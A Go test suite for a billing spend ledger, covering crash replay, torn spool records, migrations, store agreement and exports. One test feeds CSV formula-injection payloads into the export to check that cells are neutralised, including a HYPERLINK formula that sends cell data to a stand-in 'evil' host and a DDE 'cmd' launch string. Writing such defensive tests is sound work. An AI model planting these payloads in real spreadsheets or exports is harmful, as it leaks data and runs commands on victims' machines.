package ledger_test

// Attacks on the spend ledger's latest changes: the extra usage of an
// entry (est_extra, act_extra, the spool record's tail, migration 003, the
// exports) and the stream guard's extensions (spool record kind 4). The
// ledger is the source for billing: it must lose no entry, double none and
// keep every entry's whole usage, under crashes and on both stores.

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/jackc/pgx/v5"

	"github.com/costgate/costgate/costmodel"
	"github.com/costgate/costgate/ledger"

	_ "modernc.org/sqlite"
)

// ledAtkExtend raises id's estimate to out output tokens and cost, with
// the extra usage of the reservation plus webSearches searches.
func ledAtkExtend(t *testing.T, l *ledger.Ledger, id string, at time.Time, out int64, cost costmodel.NanoUSD, webSearches int64) {
	t.Helper()
	e := reservation(id, at)
	e.Estimated.OutputTokens, e.EstimatedCost = out, cost
	e.Estimated.WebSearchRequests = webSearches
	if err := l.Extend(context.Background(), e); err != nil {
		t.Fatal(err)
	}
}

// ledAtkByID returns the entries of tenant acme by request id.
func ledAtkByID(t *testing.T, l *ledger.Ledger) map[string]ledger.Entry {
	t.Helper()
	m := map[string]ledger.Entry{}
	for _, e := range all(t, l, ledger.Query{Tenant: "acme"}) {
		m[e.RequestID] = e
	}
	return m
}

// ledAtkSnapshot copies a running ledger's data dir as a SIGKILL would
// leave it (the spool as written, the node id, the embedded store without
// its shared-memory index, which SQLite rebuilds from the WAL), so that a
// second Open replays the records the first never applied.
func ledAtkSnapshot(t *testing.T, dir string) string {
	t.Helper()
	to := t.TempDir()
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, path)
		if d.IsDir() {
			return os.MkdirAll(filepath.Join(to, rel), 0o700)
		}
		if name := d.Name(); name == "lock" || strings.HasSuffix(name, "-shm") {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(to, rel), b, 0o600)
	})
	if err != nil {
		t.Fatal(err)
	}
	return to
}

// ledAtkLastSegment is the path of the spool's last segment in dir.
func ledAtkLastSegment(t *testing.T, dir string) string {
	t.Helper()
	names, err := filepath.Glob(filepath.Join(dir, "spool", "*.spool"))
	if err != nil || len(names) == 0 {
		t.Fatalf("no spool segment in %s: %v", dir, err)
	}
	slices.SortFunc(names, func(a, b string) int {
		x, _ := strconv.ParseInt(strings.TrimSuffix(filepath.Base(a), ".spool"), 10, 64)
		y, _ := strconv.ParseInt(strings.TrimSuffix(filepath.Base(b), ".spool"), 10, 64)
		return int(x - y)
	})
	return names[len(names)-1]
}

// TestLedAtkLocalSpendCountsExtensions: while PostgreSQL is down, Spend
// and KeySpend answer from the last read plus this node's records since.
// A stream reserved before the outage (its reservation in the store) that
// the guard extends during it must count its increments: the gate
// restores budgets from that answer (gate/fresh.go), and a Redis that lost
// its counters would otherwise get back only the stream's first
// reservation, the gap the extensions were made to close.
func TestLedAtkLocalSpendCountsExtensions(t *testing.T) {
	l, pg, ctx := storeDownLedger(t, ledger.Config{})
	if err := l.Reserve(ctx, reservation("stream", t0)); err != nil { // 3000
		t.Fatal(err)
	}
	flush(t, l)
	month := ledger.SpendQuery{Tenant: "acme", Period: "month", At: t0}
	if sp, err := l.Spend(ctx, month); err != nil || sp != 3_000 {
		t.Fatalf("Spend before the outage = %d, %v; want 3000", sp, err)
	}
	from, to, err := ledger.Period("month", t0, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := l.KeySpend(ctx, "acme", from, to); err != nil {
		t.Fatal(err)
	}

	pg.Stop()
	ledAtkExtend(t, l, "stream", t0, 900, 10_000, 1) // the guard let 700 more output tokens through

	sp, err := l.Spend(ctx, month)
	var le *ledger.LocalSpendError
	if !errors.As(err, &le) {
		t.Fatalf("Spend during the outage = %d, %v; want a *LocalSpendError", sp, err)
	}
	if sp != 10_000 {
		t.Errorf("Spend during the outage = %d (stored %d, pending %d); want 10000: the stream's extension to 10000 is in the spool",
			sp, le.Stored, le.Pending)
	}
	ks, err := l.KeySpend(ctx, "acme", from, to)
	if !errors.As(err, &le) {
		t.Fatalf("KeySpend during the outage = %v, %v; want a *LocalSpendError", ks, err)
	}
	if ks["k1"] != 10_000 {
		t.Errorf("KeySpend during the outage = %v; want k1 10000", ks)
	}

	pg.Start()
	flush(t, l)
	if sp, err := l.Spend(ctx, month); err != nil || sp != 10_000 {
		t.Fatalf("Spend after the outage = %d, %v; want 10000", sp, err)
	}
}

// TestLedAtkExportsKeepExtraUsage: what an entry was billed for beyond
// its six token counts (web searches, file search calls, container GB,
// 1-hour cache writes, audio tokens, tier, geography, speed) changes its
// price, and billing reads it from the exports. The CloudEvents usage
// event (what OpenMeter or Lago meter) must carry it, and the CSV must
// show the estimate's as it shows the estimate's token counts: a reserved
// entry is charged at that estimate.
func TestLedAtkExportsKeepExtraUsage(t *testing.T) {
	forEachStore(t, func(t *testing.T, cfg ledger.Config) {
		cfg.EventSource = "atk"
		l := open(t, cfg)
		ctx := context.Background()
		if err := l.Reserve(ctx, reservation("done", t0)); err != nil {
			t.Fatal(err)
		}
		if err := l.Settle(ctx, settlement("done", 7_000)); err != nil {
			t.Fatal(err)
		}
		if err := l.Reserve(ctx, reservation("open", t0.Add(time.Second))); err != nil {
			t.Fatal(err)
		}
		flush(t, l)

		var buf bytes.Buffer
		if err := l.Export(ctx, &buf, ledger.Query{Tenant: "acme"}, ledger.FormatCloudEvents); err != nil {
			t.Fatal(err)
		}
		var evs []struct {
			ID   string         `json:"id"`
			Data map[string]any `json:"data"`
		}
		if err := json.Unmarshal(buf.Bytes(), &evs); err != nil || len(evs) != 1 {
			t.Fatalf("cloudevents: %v %s", err, buf.String())
		}
		act := settlement("done", 0).Actual
		for k, want := range map[string]any{
			"cache_write_1h_tokens": float64(act.CacheWrite1hTokens), "audio_output_tokens": float64(act.AudioOutputTokens),
			"web_search_requests": float64(act.WebSearchRequests), "file_search_calls": float64(act.FileSearchCalls),
			"container_gb": float64(act.ContainerGB), "service_tier": act.ServiceTier,
			"inference_geo": act.InferenceGeo, "speed": act.Speed,
		} {
			if got := evs[0].Data[k]; got != want {
				t.Errorf("cloudevent data[%q] = %v, want %v (the entry holds it; the billing event drops it)", k, got, want)
			}
		}

		buf.Reset()
		if err := l.Export(ctx, &buf, ledger.Query{Tenant: "acme"}, ledger.FormatCSV); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("csv: %v %q", err, rows)
		}
		col := map[string]string{}
		for i, h := range rows[0] {
			col[h] = rows[2][i] // "open": reserved, charged at its estimate
		}
		est := reservation("open", t0).Estimated
		for k, want := range map[string]string{
			"est_web_search_requests": strconv.FormatInt(est.WebSearchRequests, 10),
			"est_container_gb":        strconv.FormatInt(est.ContainerGB, 10),
			"est_service_tier":        est.ServiceTier,
			"est_speed":               est.Speed,
		} {
			if got, ok := col[k]; !ok || got != want {
				t.Errorf("csv of a reserved entry: %s = %q (column present %v), want %q: the estimate it is charged at loses its extra usage",
					k, got, ok, want)
			}
		}
	})
}

// TestLedAtkExtendReplayedAfterACrash: a process killed (its data dir as
// it was) after extending a stream, settling another and extending it
// after its settlement, extending a request it never reserved, and
// reserving a last one: the next Open replays the spool and recovers the
// stream at its last extension, with that extension's extra usage, the
// settled one at its settlement; it creates no entry for the request never
// reserved; both stores agree and the roll-up matches the entries.
func TestLedAtkExtendReplayedAfterACrash(t *testing.T) {
	forEachStore(t, func(t *testing.T, cfg ledger.Config) {
		ctx := context.Background()
		cfg.BatchDelay = time.Minute // nothing after the flush below reaches the store before the "crash"
		l := open(t, cfg)
		for _, id := range []string{"stream", "done"} {
			if err := l.Reserve(ctx, reservation(id, t0)); err != nil {
				t.Fatal(err)
			}
		}
		ledAtkExtend(t, l, "stream", t0, 456, 5_000, 2)
		flush(t, l)
		ledAtkExtend(t, l, "stream", t0, 712, 7_000, 3)
		ledAtkExtend(t, l, "stream", t0, 600, 6_000, 9) // below: nothing
		if err := l.Settle(ctx, settlement("done", 11)); err != nil {
			t.Fatal(err)
		}
		ledAtkExtend(t, l, "done", t0, 999, 99_999, 9)  // after its settlement: nothing
		ledAtkExtend(t, l, "ghost", t0, 999, 99_999, 9) // never reserved: nothing
		if err := l.Reserve(ctx, reservation("late", t0.Add(time.Minute))); err != nil {
			t.Fatal(err)
		}
		ledAtkExtend(t, l, "late", t0.Add(time.Minute), 800, math.MaxInt64, 1) // above MaxCost: MaxCost

		if _, ok, err := l.Lookup(ctx, "late"); err != nil || ok {
			t.Fatalf("late is in the store before the crash (%v %v): the replay below would not be one", ok, err)
		}
		crashed := cfg
		crashed.Dir = ledAtkSnapshot(t, cfg.Dir)
		l2 := open(t, crashed)
		flush(t, l2)
		es := ledAtkByID(t, l2)
		if _, ok := es["ghost"]; ok || len(es) != 3 {
			t.Fatalf("entries after the replay: %v; want stream, done and late, no ghost", slices.Sorted(func(yield func(string) bool) {
				for k := range es {
					if !yield(k) {
						return
					}
				}
			}))
		}
		s := es["stream"]
		if s.Status != ledger.StatusRecovered || s.ActualCost != 7_000 || s.Actual.OutputTokens != 712 ||
			s.Actual.WebSearchRequests != 3 || s.Actual.ServiceTier != "flex" || s.Actual != s.Estimated {
			t.Errorf("stream after the crash: %+v; want recovered at its last extension (7000, 712 output tokens, 3 web searches, tier flex)", s)
		}
		if d := es["done"]; d.Status != ledger.StatusSettled || d.ActualCost != 11 || d.EstimatedCost != 3_000 ||
			d.Actual.FileSearchCalls != 3 || d.Actual.InferenceGeo != "us" {
			t.Errorf("done after the crash: %+v; want settled at 11 with its actual extra usage", d)
		}
		if x := es["late"]; x.Status != ledger.StatusRecovered || x.ActualCost != ledger.MaxCost || x.Actual.OutputTokens != 800 {
			t.Errorf("late after the crash: %+v; want recovered at MaxCost", x)
		}
		want := costmodel.NanoUSD(7_000 + 11 + ledger.MaxCost)
		for _, p := range []string{"day", "month"} {
			if sp, err := l2.Spend(ctx, ledger.SpendQuery{Tenant: "acme", Period: p, At: t0}); err != nil || sp != want {
				t.Errorf("Spend(%s) after the crash = %d, %v; want %d", p, sp, err, want)
			}
		}
	})
}

// TestLedAtkTornTailOfAnExtraRecord: a machine crash that leaves the last
// spool record cut inside its extra-usage tail (or its last block never
// written, zeros) must not stop Open nor lose the records before it: the
// torn record is cut off, as the package documents, and the entries before
// it are billed in full.
func TestLedAtkTornTailOfAnExtraRecord(t *testing.T) {
	for _, c := range []struct {
		name string
		tear func(t *testing.T, path string, size int64)
	}{
		{"cut inside the tail", func(t *testing.T, path string, size int64) {
			if err := os.Truncate(path, size-5); err != nil {
				t.Fatal(err)
			}
		}},
		{"tail never written (zeros)", func(t *testing.T, path string, size int64) {
			f, err := os.OpenFile(path, os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.WriteAt(make([]byte, 40), size-40); err != nil {
				t.Fatal(err)
			}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			forEachStore(t, func(t *testing.T, cfg ledger.Config) {
				ctx := context.Background()
				cfg.BatchDelay = time.Minute
				l := open(t, cfg)
				flush(t, l) // the recovery marker of this Open
				if err := l.Reserve(ctx, reservation("a", t0)); err != nil {
					t.Fatal(err)
				}
				if err := l.Settle(ctx, settlement("a", 42)); err != nil {
					t.Fatal(err)
				}
				if err := l.Reserve(ctx, reservation("b", t0)); err != nil {
					t.Fatal(err)
				}
				if err := l.Settle(ctx, settlement("b", 43)); err != nil { // the record torn below
					t.Fatal(err)
				}
				if _, ok, err := l.Lookup(ctx, "a"); err != nil || ok {
					t.Fatalf("a is in the store before the crash (%v %v): the replay below would not be one", ok, err)
				}
				dir := ledAtkSnapshot(t, cfg.Dir)
				seg := ledAtkLastSegment(t, dir)
				st, err := os.Stat(seg)
				if err != nil {
					t.Fatal(err)
				}
				c.tear(t, seg, st.Size())
				crashed := cfg
				crashed.Dir = dir
				l2 := open(t, crashed)
				flush(t, l2)
				es := ledAtkByID(t, l2)
				if a := es["a"]; a.Status != ledger.StatusSettled || a.ActualCost != 42 || a.Actual.WebSearchRequests != 2 || a.Actual.Speed != "fast" {
					t.Errorf("a: %+v; want settled at 42 with its extra usage", a)
				}
				if b := es["b"]; b.Status != ledger.StatusRecovered || b.ActualCost != 3_000 || b.Actual.ContainerGB != 1 || b.Actual.ServiceTier != "flex" {
					t.Errorf("b (its settlement torn): %+v; want recovered at its estimate with its extra usage", b)
				}
				if err := l2.Reserve(ctx, reservation("c", t0)); err != nil {
					t.Fatal(err)
				}
				flush(t, l2)
				if _, ok, err := l2.Lookup(ctx, "c"); err != nil || !ok {
					t.Fatalf("a record appended after the cut: %v %v", ok, err)
				}
			})
		})
	}
}

// TestLedAtkMigration003KeepsOldRows: a store written by schema 2 (no
// extra columns, a reservation still open, a settled entry) migrates on
// Open; its rows read without extra usage and without error, the open one
// is extended and settled with extra usage, and the spend counts it once.
func TestLedAtkMigration003KeepsOldRows(t *testing.T) {
	const (
		oldReserved = `INSERT INTO ledger_entries VALUES ('old-open','gone','acme','ann','k1','r','u','m','', 'allow','','','reserved',0,
			1,0,0,2,0,0, 0,0,0,0,0,0, 3000,0,3000, %s, %s)`
		oldSettled = `INSERT INTO ledger_entries VALUES ('old-done','gone','acme','ann','k1','r','u','m','', 'allow','','','settled',200,
			1,0,0,2,0,0, 1,0,0,2,0,0, 5,5,5, %s, %s)`
	)
	ctx := context.Background()
	for _, s := range stores() {
		t.Run(s.name, func(t *testing.T) {
			t.Parallel()
			cfg := s.config(t)
			schema := func(n string) string {
				b, err := os.ReadFile("migrations/" + map[bool]string{true: "postgres", false: "sqlite"}[cfg.DSN != ""] + "/" + n)
				if err != nil {
					t.Fatal(err)
				}
				return string(b)
			}
			created := t0.UnixMicro()
			if cfg.DSN != "" {
				conn, err := pgx.Connect(ctx, cfg.DSN)
				if err != nil {
					t.Fatal(err)
				}
				ts := "to_timestamp(" + strconv.FormatInt(created, 10) + "/1e6)"
				for _, q := range []string{schema("001_init.sql"), schema("002_expired.sql"),
					`CREATE TABLE ledger_schema_migrations (version integer PRIMARY KEY, name text NOT NULL, applied_at timestamptz NOT NULL DEFAULT now())`,
					`INSERT INTO ledger_schema_migrations (version, name) VALUES (1, '001_init.sql'), (2, '002_expired.sql')`,
					strings.ReplaceAll(strings.Replace(oldReserved, "%s", ts, 1), "%s", "NULL"),
					strings.ReplaceAll(oldSettled, "%s", ts),
				} {
					if _, err := conn.Exec(ctx, q); err != nil {
						t.Fatalf("%v\n%s", err, q)
					}
				}
				conn.Close(ctx)
			} else {
				db, err := sql.Open("sqlite", "file:"+filepath.Join(cfg.Dir, "ledger.db"))
				if err != nil {
					t.Fatal(err)
				}
				c := strconv.FormatInt(created, 10)
				for _, q := range []string{schema("001_init.sql"), schema("002_expired.sql"), `PRAGMA user_version = 2`,
					strings.Replace(strings.Replace(oldReserved, "%s", c, 1), "%s", "0", 1),
					strings.ReplaceAll(oldSettled, "%s", c),
				} {
					if _, err := db.Exec(q); err != nil {
						t.Fatalf("%v\n%s", err, q)
					}
				}
				db.Close()
			}
			l := open(t, cfg)
			flush(t, l)
			es := ledAtkByID(t, l)
			if o := es["old-open"]; o.Status != ledger.StatusReserved || o.EstimatedCost != 3_000 || o.Estimated != (costmodel.Usage{InputTokens: 1, OutputTokens: 2}) {
				t.Fatalf("old open entry after the migration: %+v", o)
			}
			if d := es["old-done"]; d.Status != ledger.StatusSettled || d.ActualCost != 5 || d.Actual != (costmodel.Usage{InputTokens: 1, OutputTokens: 2}) {
				t.Fatalf("old settled entry after the migration: %+v", d)
			}
			ledAtkExtend(t, l, "old-open", t0, 50, 4_000, 2)
			s := settlement("old-open", 3_500)
			if err := l.Settle(ctx, s); err != nil {
				t.Fatal(err)
			}
			if err := l.Settle(ctx, settlement("old-done", 9_999)); err != nil { // settled already: nothing
				t.Fatal(err)
			}
			flush(t, l)
			es = ledAtkByID(t, l)
			if o := es["old-open"]; o.Status != ledger.StatusSettled || o.ActualCost != 3_500 || o.Actual != s.Actual ||
				o.EstimatedCost != 4_000 || o.Estimated.WebSearchRequests != 2 {
				t.Errorf("old open entry, extended and settled: %+v", o)
			}
			if d := es["old-done"]; d.ActualCost != 5 || d.Actual.WebSearchRequests != 0 {
				t.Errorf("old settled entry settled again: %+v", d)
			}
			var buf bytes.Buffer
			for _, f := range []string{ledger.FormatCSV, ledger.FormatJSON, ledger.FormatCloudEvents} {
				if err := l.Export(ctx, &buf, ledger.Query{Tenant: "acme"}, f); err != nil {
					t.Errorf("export %s of migrated rows: %v", f, err)
				}
			}
		})
	}
}

// TestLedAtkExtraTextInCSV: tier, geography and speed texts come from an
// upstream's answer (and speed from the tenant's request); model, user and
// key from the tenant. In the CSV that finance opens, none may start a
// formula, each must read back as stored (less the documented "'"), and
// one that is huge or invalid UTF-8 is cut to valid text, never a reason
// to lose the entry or a row.
func TestLedAtkExtraTextInCSV(t *testing.T) {
	texts := []string{
		`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "'=1", "＝1", "a,\"b\"\n=c", strings.Repeat("\xff=", 5000), "\x00=1",
	}
	forEachStore(t, func(t *testing.T, cfg ledger.Config) {
		l := open(t, cfg)
		ctx := context.Background()
		for i, s := range texts {
			id := "t" + strconv.Itoa(i)
			e := reservation(id, t0.Add(time.Duration(i)*time.Second))
			if ledger.ValidText(s) {
				e.Model, e.User, e.KeyID = s, s, s
			}
			if err := l.Reserve(ctx, e); err != nil {
				t.Fatalf("%q: %v", s, err)
			}
			x := settlement(id, 10)
			x.Actual.ServiceTier, x.Actual.InferenceGeo, x.Actual.Speed = s, s, s
			if err := l.Settle(ctx, x); err != nil {
				t.Fatalf("%q: %v", s, err)
			}
		}
		flush(t, l)
		var buf bytes.Buffer
		if err := l.Export(ctx, &buf, ledger.Query{Tenant: "acme"}, ledger.FormatCSV); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) != len(texts)+1 {
			t.Fatalf("csv: %d rows, %v", len(rows), err)
		}
		idx := map[string]int{}
		for i, h := range rows[0] {
			idx[h] = i
		}
		for i, s := range texts {
			row := rows[i+1]
			for _, c := range []string{"service_tier", "inference_geo", "speed", "model", "user", "key_id"} {
				cell := row[idx[c]]
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("text %q: %s cell %q starts a formula", s, c, cell)
				}
				if r, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("＝＋－＠", r) {
					t.Errorf("text %q: %s cell %q starts a full-width formula", s, c, cell)
				}
				if !utf8.ValidString(cell) {
					t.Errorf("text %q: %s cell is not UTF-8", s, c)
				}
				got := strings.TrimPrefix(cell, "'")
				if c == "service_tier" || c == "inference_geo" || c == "speed" {
					// Cut to at most 64 bytes of valid text (extraText).
					if clean := strings.ToValidUTF8(s, "\uFFFD"); len(got) > 64 || got == "" || !strings.HasPrefix(clean, got) {
						t.Errorf("text %q: %s reads back %q, want a prefix of %q of at most 64 bytes", s, c, got, clean)
					}
					continue
				}
				if !ledger.ValidText(s) {
					continue
				}
				if want := s; got != want {
					t.Errorf("text %q: %s reads back %q, want %q", s, c, got, want)
				}
			}
			if row[idx["charge_nanousd"]] != "10" {
				t.Errorf("text %q: charge %q, want 10", s, row[idx["charge_nanousd"]])
			}
		}
	})
}

// ledAtkRun is one sequence of writes with extensions, settlements twice
// across flushes, extra usage and entries over two days and two months.
func ledAtkRun(t *testing.T, l *ledger.Ledger) {
	t.Helper()
	ctx := context.Background()
	days := []time.Time{t0, t0.Add(24 * time.Hour), t0.AddDate(0, 1, 0)}
	for i := range 30 {
		at := days[i%3].Add(time.Duration(i) * time.Minute)
		id := "r" + strconv.Itoa(i)
		e := reservation(id, at)
		e.User, e.KeyID = "u"+strconv.Itoa(i%2), "k"+strconv.Itoa(i%3)
		e.EstimatedCost = costmodel.NanoUSD(1_000 + i)
		if err := l.Reserve(ctx, e); err != nil {
			t.Fatal(err)
		}
		if i%4 == 0 {
			x := e
			x.Estimated.OutputTokens, x.EstimatedCost, x.Estimated.AudioOutputTokens = 999, costmodel.NanoUSD(5_000+i), int64(i)
			if err := l.Extend(ctx, x); err != nil {
				t.Fatal(err)
			}
		}
		if i%5 == 0 {
			flush(t, l)
		}
		switch i % 3 {
		case 0:
			if err := l.Settle(ctx, settlement(id, costmodel.NanoUSD(10+i))); err != nil {
				t.Fatal(err)
			}
		case 1:
			x := settlement(id, costmodel.NanoUSD(20+i))
			x.Status = ledger.StatusFailed
			if err := l.Settle(ctx, x); err != nil {
				t.Fatal(err)
			}
		}
		if i%6 == 0 {
			flush(t, l)
			if err := l.Settle(ctx, settlement(id, 777_777)); err != nil { // a second settlement across a flush: nothing
				t.Fatal(err)
			}
			x := e
			x.EstimatedCost = 900_000
			if err := l.Extend(ctx, x); err != nil { // after the settlement: nothing
				t.Fatal(err)
			}
		}
	}
	flush(t, l)
}

// TestLedAtkStoresAgree: the same writes give both stores the same
// entries, whole usage included, and the same spend on every read, each
// equal to the sum of the entries' charges.
func TestLedAtkStoresAgree(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	type result struct {
		entries []ledger.Entry
		reads   map[string]costmodel.NanoUSD
		summary []ledger.TenantSpend
	}
	var results []result
	for _, s := range stores() {
		cfg := s.config(t)
		cfg.Now = func() time.Time { return t0.AddDate(0, 2, 0) }
		l := open(t, cfg)
		ledAtkRun(t, l)
		es := all(t, l, ledger.Query{Tenant: "acme"})
		if len(es) != 30 {
			t.Fatalf("%s: %d entries, want 30", s.name, len(es))
		}
		r := result{entries: es, reads: map[string]costmodel.NanoUSD{}}
		for _, e := range es {
			switch i, _ := strconv.Atoi(e.RequestID[1:]); {
			case i%3 == 2 && i%4 == 0:
				if e.Status != ledger.StatusReserved || e.EstimatedCost != costmodel.NanoUSD(5_000+i) || e.Estimated.AudioOutputTokens != int64(i) {
					t.Errorf("%s: %s: %+v; want reserved at its extension", s.name, e.RequestID, e)
				}
			case i%3 == 0 && e.ActualCost != costmodel.NanoUSD(10+i):
				t.Errorf("%s: %s: %+v; want settled at its first settlement, %d", s.name, e.RequestID, e, 10+i)
			}
		}
		for _, at := range []time.Time{t0, t0.Add(24 * time.Hour), t0.AddDate(0, 1, 0)} {
			for _, p := range []string{"day", "month"} {
				for _, u := range []string{"", "u0", "u1"} {
					q := ledger.SpendQuery{Tenant: "acme", User: u, Period: p, At: at}
					sp, err := l.Spend(ctx, q)
					if err != nil {
						t.Fatal(err)
					}
					from, to, _ := ledger.Period(p, at, time.UTC)
					var want costmodel.NanoUSD
					for _, e := range es {
						if (u == "" || e.User == u) && !e.CreatedAt.Before(from) && e.CreatedAt.Before(to) {
							want += e.Charge()
						}
					}
					if sp != want {
						t.Errorf("%s: Spend %+v = %d, want the entries' %d", s.name, q, sp, want)
					}
					r.reads[p+"/"+u+"/"+at.Format(time.DateOnly)] = sp
				}
				sum, err := l.Summary(ctx, p, at)
				if err != nil {
					t.Fatal(err)
				}
				r.summary = append(r.summary, sum...)
			}
			from, to, _ := ledger.Period("month", at, time.UTC)
			ks, err := l.KeySpend(ctx, "acme", from, to)
			if err != nil {
				t.Fatal(err)
			}
			for k, v := range ks {
				r.reads["key/"+k+"/"+at.Format(time.DateOnly)] = v
			}
		}
		results = append(results, r)
	}
	a, b := results[0], results[1]
	for i := range a.entries {
		if !reflect.DeepEqual(a.entries[i], b.entries[i]) {
			t.Errorf("entry %d differs:\n embedded %+v\n postgres %+v", i, a.entries[i], b.entries[i])
		}
	}
	if !reflect.DeepEqual(a.reads, b.reads) || !reflect.DeepEqual(a.summary, b.summary) {
		t.Errorf("reads differ:\n embedded %v %v\n postgres %v %v", a.reads, a.summary, b.reads, b.summary)
	}
}

// TestLedAtkExtendRefusesBadInput: an extension is checked as a
// reservation is (negative usage or cost, invalid text), and an estimate
// past MaxCost is MaxCost, never a wrapped sum.
func TestLedAtkExtendRefusesBadInput(t *testing.T) {
	l := open(t, ledger.Config{Dir: t.TempDir()})
	ctx := context.Background()
	if err := l.Reserve(ctx, reservation("s", t0)); err != nil {
		t.Fatal(err)
	}
	for name, mut := range map[string]func(*ledger.Entry){
		"negative cost":        func(e *ledger.Entry) { e.EstimatedCost = -1 },
		"negative web search":  func(e *ledger.Entry) { e.Estimated.WebSearchRequests = -1 },
		"negative container":   func(e *ledger.Entry) { e.Estimated.ContainerGB = math.MinInt64 },
		"invalid tenant":       func(e *ledger.Entry) { e.Tenant = "\xff" },
		"empty id":             func(e *ledger.Entry) { e.RequestID = "" },
		"oversized request id": func(e *ledger.Entry) { e.RequestID = strings.Repeat("x", 600) },
	} {
		e := reservation("s", t0)
		mut(&e)
		if err := l.Extend(ctx, e); !errors.Is(err, ledger.ErrInvalid) {
			t.Errorf("%s: Extend = %v, want ErrInvalid", name, err)
		}
	}
	for _, c := range []costmodel.NanoUSD{ledger.MaxCost + 1, math.MaxInt64} {
		ledAtkExtend(t, l, "s", t0, 1, c, 0)
	}
	flush(t, l)
	if sp, err := l.Spend(ctx, ledger.SpendQuery{Tenant: "acme", Period: "day", At: t0}); err != nil || sp != ledger.MaxCost {
		t.Fatalf("Spend = %d, %v; want MaxCost", sp, err)
	}
	if err := l.Settle(ctx, settlement("s", 5)); err != nil {
		t.Fatal(err)
	}
	flush(t, l)
	if sp, err := l.Spend(ctx, ledger.SpendQuery{Tenant: "acme", Period: "day", At: t0}); err != nil || sp != 5 {
		t.Fatalf("Spend after the settlement = %d, %v; want 5", sp, err)
	}
}
